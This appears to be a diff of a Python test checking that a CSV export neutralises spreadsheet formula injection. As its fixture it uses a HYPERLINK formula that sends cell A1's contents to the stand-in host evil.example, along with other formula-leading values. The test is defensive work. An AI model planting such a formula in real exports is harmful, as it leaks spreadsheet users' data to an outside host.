@@ -16,11 +16,10 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 def test_csv_note_lines_cannot_hold_a_formula_cell():
     frame = pd.DataFrame({"region": ["北京市", FORMULA], "value": [1.5, -2.0]})
     text = to_csv(frame, {"source": FORMULA + ", " + FORMULA, "unit": "元\n=1+1", "title": "@SUM(A1),+x"}).decode()
-    import csv
     cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
     assert cells, text
     for cell in cells:
-        assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r") or re.fullmatch(r"-?[\d.]+", cell), cell
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or re.fullmatch(r"-?[\d.]+", cell), cell
     body = pd.read_csv(io.StringIO(text.lstrip("\ufeff")), comment="#")
     assert body["value"].tolist() == [1.5, -2.0]                   # numbers stay numbers
 
